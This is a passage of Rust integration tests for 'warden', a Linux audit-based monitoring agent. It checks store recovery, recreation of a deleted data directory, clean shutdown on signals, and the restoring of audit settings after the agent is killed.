    std::fs::write(data.join("events.db"), &junk).unwrap();
    let mut agent = Agent::start_in("", dir);
    let status = agent.status();
    let aside = PathBuf::from(
        status["store_set_aside"]
            .as_str()
            .unwrap_or_else(|| panic!("{status}")),
    );
    assert_eq!(std::fs::read(&aside).unwrap(), junk, "kept as it was");
    assert!(
        agent.log().contains("the event store was damaged"),
        "{}",
        agent.log()
    );
    records_an_exec(&agent);
    agent.stop();
    kernel.check();
}

/// A data dir removed while the agent runs (`rm -rf`) is made again, with a new store: the
/// agent does not write on into files nobody can open.
#[test]
fn a_removed_data_dir_is_made_again() {
    let Some((_serial, kernel)) = begin("a_removed_data_dir_is_made_again") else {
        return;
    };
    let mut agent = Agent::start("");
    // The store holds every user's command lines: its dir is root's only, as made at start
    // and as made again.
    let private = |agent: &Agent| {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&agent.data).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o700, "{}", agent.data.display());
    };
    private(&agent);
    // As `rm -rf` would: the agent may write its status file in the dir while it is emptied.
    poll("the data dir removed", || {
        std::fs::remove_dir_all(&agent.data)
            .ok()
            .or_else(|| (!agent.data.exists()).then_some(()))
    });
    let status = poll("the status of a new store", || {
        let status = std::fs::read_to_string(agent.data.join("status.json")).ok()?;
        let status: Value = serde_json::from_str(&status).ok()?;
        (status["store_reopened"] == 1).then_some(status)
    });
    assert_eq!(
        status["store_last_reopen"], "its file was removed or replaced",
        "{status}"
    );
    private(&agent);
    records_an_exec(&agent);
    // Nothing of the removed store is held open (its space would never come back).
    let removed = |agent: &Agent| {
        std::fs::read_dir(format!("/proc/{}/fd", agent.pid()))
            .unwrap()
            .filter_map(|fd| std::fs::read_link(fd.ok()?.path()).ok())
            .filter(|target| target.to_string_lossy().ends_with(" (deleted)"))
            .filter(|target| target.to_string_lossy().contains("events.db"))
            .collect::<Vec<_>>()
    };
    poll("the removed store closed", || {
        removed(&agent).is_empty().then_some(())
    });
    agent.stop();
    assert!(
        agent.log().contains("a new event store opened"),
        "{}",
        agent.log()
    );
    kernel.check();
}

/// Runs `/bin/true` and waits until `agent` has recorded its exec.
fn records_an_exec(agent: &Agent) {
    let mut child = Proc::spawn(&mut Command::new("/bin/true"));
    let pid = child.pid().to_string();
    assert!(child.wait().success());
    agent.wait_for_matching(
        &["--pid", &pid, "--class", "exec"],
        "the exec of /bin/true",
        |ev| !ev.is_empty(),
    );
}

/// A hangup (the terminal of a foreground `warden run` closing), SIGQUIT and the other signals
/// whose default action ends a process (SIGUSR1 here) stop the agent as SIGTERM does: its audit
/// rules removed and the audit settings it changed restored. Their default action ended it on
/// the spot, leaving them installed.
#[test]
fn a_hangup_or_quit_stops_the_agent_cleanly() {
    let Some((_serial, kernel)) = begin("a_hangup_or_quit_stops_the_agent_cleanly") else {
        return;
    };
    for signal in [Signal::SIGHUP, Signal::SIGQUIT, Signal::SIGUSR1] {
        let mut agent = Agent::start("[network]\nsource = \"audit\"\n");
        assert!(
            audit_state().rules.contains("key=warden"),
            "the agent's audit rules: {}",
            agent.log()
        );
        signal_and_wait(&mut agent, signal);
        assert!(
            agent.log().contains(&format!("{signal}: stopping")),
            "{}",
            agent.log()
        );
        kernel.check();
    }
}

/// Sends `signal` to the agent and waits for its clean exit.
fn signal_and_wait(agent: &mut Agent, sig: Signal) {
    signal(agent.pid(), sig);
    let status = wait_child(&mut agent.child, DEADLINE);
    agent.stopped = true;
    let status = status.unwrap_or_else(|| panic!("no exit after {sig}:\n{}", agent.log()));
    assert!(status.success(), "{sig}: {status}:\n{}", agent.log());
}

/// SIGKILL gives the agent no chance to restore the kernel: its audit rules, the settings it
/// changed (audit enabled, its backlog) and its daemon slot stay. `warden cleanup` undoes them
/// without starting an agent, and refuses while one runs; an agent started after a killed one
/// puts the settings back before taking its own baseline, so its stop leaves the kernel as it
/// was before either. Before the ledger, the killed agent's settings stayed for good.
#[test]
fn a_killed_agents_audit_state_is_undone_by_cleanup_or_the_next_start() {
    let Some((_serial, kernel)) =
        begin("a_killed_agents_audit_state_is_undone_by_cleanup_or_the_next_start")
    else {
        return;
    };
    let config = "[network]\nsource = \"audit\"\n";
    let kill_agent = |agent: &mut Agent| {
        assert!(
            audit_state().rules.contains("key=warden"),
            "{}",
            agent.log()
        );
        signal(agent.pid(), Signal::SIGKILL);
        let _ = agent.child.wait();
        agent.stopped = true;
        assert_ne!(
            audit_state(),
            kernel.before,
            "the kill left nothing to undo"
        );
    };
    let cleanup = || {
        let out = Command::new(warden()).arg("cleanup").output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        (out.status, text)
    };

    // `warden cleanup`, while an agent runs and after it was killed.
    let mut agent = Agent::start(config);
    let (status, said) = cleanup();
    assert!(!status.success(), "cleanup beside a running agent: {said}");
    assert!(said.contains("another warden agent is running"), "{said}");
    kill_agent(&mut agent);
    let (status, said) = cleanup();
    assert!(status.success(), "{said}");
    assert!(said.contains("put back the audit settings"), "{said}");
    assert!(said.contains("removed"), "{said}");
    kernel.check();
    let (status, said) = cleanup();
    assert!(
        status.success() && said.contains("nothing to clean up"),
        "{said}"
    );

    // The next start.
    let mut agent = Agent::start(config);
    kill_agent(&mut agent);
    let mut agent = Agent::start(config);
    let detail = agent.source_detail("audit");
    assert!(detail.contains("put back the audit settings"), "{detail}");
    agent.stop();
    kernel.check();
}
